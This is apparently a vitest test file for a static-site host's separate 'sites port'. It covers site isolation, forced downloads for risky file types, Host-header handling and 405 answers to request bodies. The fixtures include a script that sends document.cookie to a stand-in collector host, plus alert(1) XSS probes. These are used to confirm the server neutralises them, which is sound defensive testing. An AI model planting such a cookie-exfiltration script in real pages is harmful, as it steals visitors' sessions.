/**
 * The sites port (SITES_PORT, default PORT + 1, without SITES_ORIGIN): live sites on an origin of
 * their own, unsandboxed; previews sandboxed; nothing of the app there; the app port's /sites and
 * /preview redirect to it under the name the visitor used. Real ports: the server a request
 * arrives on matters.
 */
import http from 'node:http';
import net from 'node:net';
import { DEFAULT_LIMITS, messages } from '@sitehall/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listenSitesPort } from '../src/lifecycle.js';
import { SITE_SANDBOX_CSP } from '../src/serve/site-headers.js';
import {
  createTestApp,
  freePort,
  listenPort,
  liveProject,
  SIMPLE_SITE,
  type TestApp,
  uploadProject,
} from './helpers.js';

interface Answer {
  status: number;
  headers: { get(name: string): string | null };
  text(): Promise<string>;
}

/** node:http, not fetch: fetch sends a Host of its own choosing. */
function get(
  port: number,
  path: string,
  host = `127.0.0.1:${port}`,
  init: { method?: string; headers?: Record<string, string>; body?: string } = {},
): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = http.request(
      { host: '127.0.0.1', port, path, method: init.method ?? 'GET', headers: { ...init.headers, host } },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('error', reject);
        res.on('end', () => {
          const body = Buffer.concat(chunks).toString('utf8');
          resolve({
            status: res.statusCode ?? 0,
            headers: { get: (name) => (res.headers[name] as string | undefined) ?? null },
            text: async () => body,
          });
        });
      },
    );
    req.on('error', reject);
    req.end(init.body);
  });
}

/**
 * A GET alone on a connection of its own, as a browser's first request (no `Connection: close`):
 * the connection fast path answers it from the bytes when it may. The client then ends its side,
 * and the server closes once it has answered.
 */
function firstGet(port: number, path: string, host: string): Promise<{ status: number; raw: string }> {
  return new Promise((resolve, reject) => {
    const socket = net.connect(port, '127.0.0.1');
    const chunks: Buffer[] = [];
    socket.on('data', (c: Buffer) => chunks.push(c));
    socket.on('error', reject);
    socket.on('close', () => {
      const raw = Buffer.concat(chunks).toString('utf8');
      resolve({ status: Number(/^HTTP\/1\.1 (\d{3})/.exec(raw)?.[1] ?? 0), raw });
    });
    socket.end(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
  });
}

describe('the sites port', () => {
  let t: TestApp;
  let appPort: number;
  let sitesPort: number;
  let id: number;
  beforeAll(async () => {
    sitesPort = await freePort();
    t = await createTestApp({ sitesPort });
    appPort = await listenPort(t);
    await listenSitesPort(t, t.config);
    ({ id } = await liveProject(t));
  });
  afterAll(() => t.close());

  it('serves live sites without the sandbox, still nosniff', async () => {
    const res = await get(sitesPort, `/sites/${id}/`);
    expect(res.status).toBe(200);
    expect(await res.text()).toBe(SIMPLE_SITE[0]!.content);
    expect(res.headers.get('content-security-policy')).toBeNull();
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    // Again, now from the fast path's memory: the same headers.
    const again = await get(sitesPort, `/sites/${id}/`);
    expect(again.headers.get('content-security-policy')).toBeNull();
    const miss = await get(sitesPort, `/sites/${id}/nope`);
    expect(miss.status).toBe(404);
    expect(miss.headers.get('content-security-policy')).toBeNull();
  });

  it('sends an admin-allowed extension of a page’s or an SVG’s type as a download: the check reads those by extension', async () => {
    // shtml is text/html and svgz image/svg+xml to the mime-types package, but the content check
    // reads pages, SVGs and scripts only under their own extensions: shown, these would run unread
    // (a page sending the visitor's cookies away checked clean). txt-like types stay as they are.
    const admin = await t.adminToken();
    const config = (allowed: readonly string[]) =>
      t.request({
        method: 'PUT',
        url: '/api/admin/config',
        token: admin,
        body: { allowed_extensions: allowed },
      });
    expect((await config([...DEFAULT_LIMITS.allowedExtensions, 'shtml', 'svgz', 'log'])).statusCode).toBe(
      200,
    );
    try {
      const script = '<script>fetch("https://collect.example/?c=" + document.cookie)</script>';
      const { id: site } = await liveProject(
        t,
        [
          { name: 'index.html', content: '<p>x</p>' },
          { name: 'page.shtml', content: `<!doctype html><html><body>${script}</body></html>` },
          { name: 'icon.svgz', content: `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>` },
          { name: 'server.log', content: 'started' },
        ],
        { name: '管理员加的类型' },
      );
      for (const name of ['page.shtml', 'icon.svgz']) {
        const res = await get(sitesPort, `/sites/${site}/${name}`);
        expect(res.status, name).toBe(200);
        expect(res.headers.get('content-type'), name).toBe('application/octet-stream');
        expect(res.headers.get('content-disposition'), name).toMatch(/^attachment;/);
      }
      // A type the check has nothing to read in, as the mime-types package names it.
      const log = await get(sitesPort, `/sites/${site}/server.log`);
      expect(log.headers.get('content-type')).toBe('text/plain');
      const rows = await t.ctx.db
        .selectFrom('deployment_files')
        .innerJoin('projects', 'projects.live_deployment_id', 'deployment_files.deployment_id')
        .select(['deployment_files.path', 'deployment_files.download_only'])
        .where('projects.id', '=', site)
        .orderBy('deployment_files.path')
        .execute();
      expect(rows.map((r) => [r.path, Number(r.download_only)])).toEqual([
        ['icon.svgz', 1],
        ['index.html', 0],
        ['page.shtml', 1],
        ['server.log', 0],
      ]);
    } finally {
      expect((await config(DEFAULT_LIMITS.allowedExtensions)).statusCode).toBe(200);
    }
  });

  it('sends download-only files and .xml as attachments with nosniff, from memory and a first request too', async () => {
    // The sites port is unsandboxed: a file a browser rendered here (an XML document with its
    // XSLT, XHTML, SVG, a web archive) would run its scripts on the sites' own origin. Files of
    // types outside the allowed list are stored as octet-stream; .xml is web content (a page's
    // scripts read it with its type) but not inline: both are saved, never shown.
    const script = '<script>alert(1)</script>';
    const files: Record<string, string> = {
      'feed.xml': '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="feed.xsl"?><rss/>',
      'feed.xsl': `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">${script}</xsl:stylesheet>`,
      'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
      'page.shtml': script,
      'icon.svgz': `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
      'feed.rss': '<rss/>',
      'saved.mhtml': `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${script}`,
    };
    const { id: site } = await liveProject(
      t,
      [
        { name: 'index.html', content: '<p>feeds</p>' },
        ...Object.entries(files).map(([name, content]) => ({ name, content })),
      ],
      { name: '下载文件类型' },
    );
    const named = `127.0.0.1:${sitesPort}`;
    for (const name of Object.keys(files)) {
      const type = name === 'feed.xml' ? 'application/xml; charset=utf-8' : 'application/octet-stream';
      // The route, then the same file from the fast path's memory.
      for (let i = 0; i < 2; i++) {
        const res = await get(sitesPort, `/sites/${site}/${name}`);
        expect(res.status, name).toBe(200);
        expect(res.headers.get('content-type'), name).toBe(type);
        expect(res.headers.get('content-disposition'), name).toBe(
          `attachment; filename="${name}"; filename*=UTF-8''${name}`,
        );
        expect(res.headers.get('x-content-type-options'), name).toBe('nosniff');
        expect(res.headers.get('content-security-policy'), name).toBeNull();
      }
      // A first request on a connection of its own, answered from the connection's bytes.
      const first = await firstGet(sitesPort, `/sites/${site}/${name}`, named);
      expect(first.status, name).toBe(200);
      const head = first.raw.slice(0, first.raw.indexOf('\r\n\r\n')).toLowerCase();
      expect(head, name).toContain(`\r\ncontent-type: ${type}\r\n`);
      expect(head, name).toContain(`\r\ncontent-disposition: attachment; filename="${name}"`);
      expect(head, name).toContain('\r\nx-content-type-options: nosniff\r\n');
    }
  });

  it('redirects the app port’s /sites and /preview there, under the name the visitor used', async () => {
    for (const [host, name] of [
      [`localhost:${appPort}`, 'localhost'],
      [`127.0.0.1:${appPort}`, '127.0.0.1'],
      [`192.168.1.5:${appPort}`, '192.168.1.5'],
      [`[::1]:${appPort}`, '[::1]'],
    ] as const) {
      for (const url of [
        `/sites/${id}/`,
        `/sites/${id}/css/style.css?v=2`,
        `/sites/${id}`,
        '/preview/tok/a',
      ]) {
        const res = await get(appPort, url, host);
        expect(res.status, `${host}${url}`).toBe(302);
        expect(res.headers.get('location'), `${host}${url}`).toBe(`http://${name}:${sitesPort}${url}`);
      }
    }
  });

  it('answers as the port the request arrived on says, not as its Host header says', async () => {
    // The app port, told it is the sites port: no unsandboxed site (the fast path's memory of the
    // site served above included), only the redirect to the real sites port; the app stays the app.
    for (let i = 0; i < 3; i++) {
      for (const url of [`/sites/${id}/`, `/sites/${id}/index.html`]) {
        const res = await get(appPort, url, `127.0.0.1:${sitesPort}`);
        expect(res.status, url).toBe(302);
        expect(res.headers.get('location'), url).toBe(`http://127.0.0.1:${sitesPort}${url}`);
        expect(await res.text(), url).not.toContain(SIMPLE_SITE[0]!.content);
      }
    }
    expect((await get(appPort, '/healthz', `127.0.0.1:${sitesPort}`)).status).toBe(200);
    const api = await get(appPort, '/api/projects/public', `localhost:${sitesPort}`);
    expect(api.status).toBe(200);
    expect(await api.text()).toContain('"success":true');
  });

  it('serves nothing of the app, whatever the Host says', async () => {
    for (const host of [`127.0.0.1:${sitesPort}`, `127.0.0.1:${appPort}`, 'example.com']) {
      for (const url of ['/', '/login', '/api/projects/public', '/api/auth/profile', '/healthz']) {
        const res = await get(sitesPort, url, host);
        expect(res.status, `${host}${url}`).toBe(404);
        expect(await res.text(), `${host}${url}`).not.toContain('success');
      }
      const post = await get(sitesPort, '/api/auth/login', host, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ username: 'admin', password: 'x' }),
      });
      expect(post.status).toBe(404);
    }
    // And the app port still is the app.
    expect((await get(appPort, '/healthz')).status).toBe(200);
  });

  it('refuses a Host that does not name it, the hot files in the fast path’s memory too', async () => {
    // A proxy that sends the app's host name to the sites port (nginx `location /sites/` in the
    // app's server block) would put a site on the app's origin, unsandboxed: the sites port refuses
    // such a Host before anything. The connection fast path answered it with the page in memory
    // (outside review r5).
    const named = `127.0.0.1:${sitesPort}`;
    for (let i = 0; i < 2; i++) expect((await firstGet(sitesPort, `/sites/${id}/`, named)).status).toBe(200);
    const answered = t.fastPath!.connections.answered;
    expect(answered).toBeGreaterThan(0);
    for (const host of [
      'hall.example.com',
      `127.0.0.1:${appPort}`,
      `localhost:${appPort}`,
      'example.com:80',
    ]) {
      for (const url of [`/sites/${id}/`, `/sites/${id}/index.html`]) {
        const res = await firstGet(sitesPort, url, host);
        expect(res.status, `${host}${url}`).toBe(404);
        expect(res.raw, `${host}${url}`).not.toContain(SIMPLE_SITE[0]!.content);
      }
    }
    // The Host that names the sites port is still answered from the connection's bytes.
    expect((await firstGet(sitesPort, `/sites/${id}/`, named)).status).toBe(200);
    expect(t.fastPath!.connections.answered).toBe(answered + 1);
  });

  it('answers 405 to a form or any other body sent to a site, whatever its type, before reading it', async () => {
    // A static site's <form method="post"> (or a script's fetch with a body): the body was parsed
    // before the 405, so a form got 415 地址无效 / 不支持的请求格式, broken JSON 400, and a
    // Content-Length over 1 MB 413, on both ports (an outside probe).
    const bodies: [type: string, body: string][] = [
      ['application/x-www-form-urlencoded', 'q=1&r=2'],
      [
        'multipart/form-data; boundary=x',
        '--x\r\nContent-Disposition: form-data; name="q"\r\n\r\n1\r\n--x--\r\n',
      ],
      ['application/json', '{"broken":'],
      ['image/png', 'not a png'],
      ['text/plain', 'q=1'],
    ];
    for (const port of [sitesPort, appPort]) {
      for (const url of [`/sites/${id}/`, `/sites/${id}/index.html`, '/preview/tok/']) {
        for (const [type, body] of bodies) {
          for (const method of ['POST', 'PUT']) {
            const res = await get(port, url, `127.0.0.1:${port}`, {
              method,
              headers: { 'content-type': type },
              body,
            });
            const at = `${port} ${method} ${url} ${type}`;
            expect(res.status, at).toBe(405);
            expect(res.headers.get('allow'), at).toBe('GET, HEAD');
            expect(await res.text(), at).toBe('405 不支持的请求方法');
            expect(res.headers.get('x-content-type-options'), at).toBe('nosniff');
          }
        }
      }
    }
    // Announced larger than any body the server reads (1 MB): still 405, not 413, and none read.
    const answer = await new Promise<string>((resolve, reject) => {
      const socket = net.connect(sitesPort, '127.0.0.1');
      const chunks: Buffer[] = [];
      socket.on('data', (c: Buffer) => chunks.push(c));
      socket.on('error', reject);
      socket.on('close', () => resolve(Buffer.concat(chunks).toString('utf8')));
      socket.write(
        `POST /sites/${id}/ HTTP/1.1\r\nHost: 127.0.0.1:${sitesPort}\r\n` +
          'Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 99999999\r\n\r\nq=1',
      );
    });
    expect(answer).toMatch(/^HTTP\/1\.1 405 /);
    expect(answer).toContain('405 不支持的请求方法');
  });

  it('refuses a request with two Host headers instead of serving the first one’s site', async () => {
    // Which site answers on the sites port is the Host's to say; with two, Node kept the first,
    // where a proxy or cache in front may read the last and file one site's answer under another's
    // origin. RFC 9112 requires a 400, as nginx answers (an outside probe).
    const other = await liveProject(t);
    for (const [first, second] of [
      [`127.0.0.1:${sitesPort}`, `127.0.0.1:${sitesPort}`],
      [`p${id}.localhost:${sitesPort}`, `p${other.id}.localhost:${sitesPort}`],
    ] as const) {
      const raw = await new Promise<string>((resolve, reject) => {
        const socket = net.connect(sitesPort, '127.0.0.1');
        const chunks: Buffer[] = [];
        socket.on('data', (c: Buffer) => chunks.push(c));
        socket.on('error', reject);
        socket.on('close', () => resolve(Buffer.concat(chunks).toString('utf8')));
        socket.end(`GET /sites/${id}/ HTTP/1.1\r\nHost: ${first}\r\nHost: ${second}\r\n\r\n`);
      });
      expect(raw, first).toMatch(/^HTTP\/1\.1 400 /);
      expect(raw, first).toContain(messages.common.hostRepeated);
      expect(raw, first).not.toContain(SIMPLE_SITE[0]!.content);
    }
  });

  it('serves a request whose target is a full address (absolute-form) as its origin-form, by that address’s host', async () => {
    // RFC 9112 §3.2.2: a server must accept it, and go by its authority rather than Host. The API
    // did (the router strips the origin), but every site address answered 404 on both ports, as
    // the site code read the URL as it came (an outside probe).
    const other = await liveProject(t, [{ name: 'index.html', content: '<h1>另一个站点</h1>' }]);
    const send = (port: number, target: string, host: string) =>
      new Promise<string>((resolve, reject) => {
        const socket = net.connect(port, '127.0.0.1');
        const chunks: Buffer[] = [];
        socket.on('data', (c: Buffer) => chunks.push(c));
        socket.on('error', reject);
        socket.on('close', () => resolve(Buffer.concat(chunks).toString('utf8')));
        socket.end(`GET ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
      });
    const named = `127.0.0.1:${sitesPort}`;
    const page = await send(sitesPort, `http://${named}/sites/${id}/`, named);
    expect(page).toMatch(/^HTTP\/1\.1 200 /);
    expect(page).toContain(SIMPLE_SITE[0]!.content);
    // The address's host decides, not Host: p{other} is served, whatever Host names.
    const byAddress = await send(
      sitesPort,
      `http://p${other.id}.localhost:${sitesPort}/`,
      `p${id}.localhost:${sitesPort}`,
    );
    expect(byAddress).toMatch(/^HTTP\/1\.1 200 /);
    expect(byAddress).toContain('另一个站点');
    // An address naming the app's port is refused there as that Host would be.
    const foreign = await send(sitesPort, `http://127.0.0.1:${appPort}/sites/${id}/`, named);
    expect(foreign).toMatch(/^HTTP\/1\.1 404 /);
    expect(foreign).not.toContain(SIMPLE_SITE[0]!.content);
    // The app port redirects it as it redirects the origin-form.
    const moved = await send(appPort, `http://127.0.0.1:${appPort}/sites/${id}/?v=1`, `127.0.0.1:${appPort}`);
    expect(moved).toMatch(/^HTTP\/1\.1 302 /);
    expect(moved).toContain(`\r\nlocation: http://127.0.0.1:${sitesPort}/sites/${id}/?v=1\r\n`);
  });

  it('answers a URL the router cannot decode as a site address, outside /sites too, never in the API’s JSON', async () => {
    // `/%c0` (a root-absolute link with a broken escape) went to the router's error answer, which
    // looked only at the path: the sites port answered the API's envelope, without nosniff (an
    // outside probe). Under /sites it was already the plain 400 with the site headers.
    for (const url of ['/%c0', '/x%ff/y', '/sites%c0/1/', `/sites/${id}/%c0`]) {
      const res = await get(sitesPort, url);
      expect(res.status, url).toBe(400);
      expect(res.headers.get('content-type'), url).toBe('text/plain; charset=utf-8');
      expect(await res.text(), url).toBe('400 无效的地址');
      expect(res.headers.get('x-content-type-options'), url).toBe('nosniff');
    }
    // The app port keeps the envelope for its own paths.
    const app = await get(appPort, '/%c0');
    expect(app.status).toBe(400);
    expect(await app.text()).toContain('"success":false');
  });

  it('keeps previews sandboxed and hands out addresses that lead there', async () => {
    const owner = await t.createUser();
    const up = await uploadProject(t, owner.token, {
      files: [{ name: 'index.html', content: '<h1>预览</h1>' }],
    });
    const pid = up.json().data.project.id;
    const res = await t.request({
      method: 'POST',
      url: `/api/projects/${pid}/preview-token`,
      token: owner.token,
    });
    const { preview_url, token } = res.json().data;
    // Relative: the app port redirects it to the sites port under whatever name the visitor used.
    expect(preview_url).toBe(`/preview/${token}/`);
    const page = await get(sitesPort, `/preview/${token}/`);
    expect(page.status).toBe(200);
    expect(await page.text()).toBe('<h1>预览</h1>');
    expect(page.headers.get('content-security-policy')).toBe(SITE_SANDBOX_CSP);
    expect(page.headers.get('cache-control')).toBe('private, no-store');
    const detail = await t.request({ url: `/api/projects/${id}`, token: await t.adminToken() });
    expect(detail.json().data.project.access_url).toBe(`/sites/${id}/`);
  });

  it('lets the app frame the sites port, and tells the dashboard', async () => {
    const page = await get(appPort, '/');
    expect(page.headers.get('content-security-policy')).toContain(`frame-src 'self' http://*:${sitesPort}`);
    const stats = await t.request({ url: '/api/admin/stats', token: await t.adminToken() });
    expect(stats.json().data.site_isolation).toEqual({ mode: 'sites_port', sites_port: sitesPort });
    // The settings page describes the same mode.
    const config = await t.request({ url: '/api/admin/config', token: await t.adminToken() });
    expect(config.json().data.site_isolation).toEqual({ mode: 'sites_port', sites_port: sitesPort });
  });

  it('a sites port in use stops the start with a message saying what to do', async () => {
    const other = await createTestApp({ sitesPort });
    try {
      await expect(listenSitesPort(other, other.config)).rejects.toThrow(
        new RegExp(`SITES_PORT=${sitesPort} 无法监听（EADDRINUSE）.*SITES_PORT=0`),
      );
    } finally {
      await other.close();
    }
  });
});

describe('SITES_PORT=0', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ sitesPort: 0 });
  });
  afterAll(() => t.close());

  it('serves sites sandboxed on the app port, and the dashboard warns', async () => {
    const { id } = await liveProject(t);
    const res = await t.request({ url: `/sites/${id}/` });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-security-policy']).toBe(SITE_SANDBOX_CSP);
    expect(t.sitesServer).toBeNull();
    const stats = await t.request({ url: '/api/admin/stats', token: await t.adminToken() });
    expect(stats.json().data.site_isolation).toEqual({ mode: 'sandboxed', sites_port: null });
  });
});
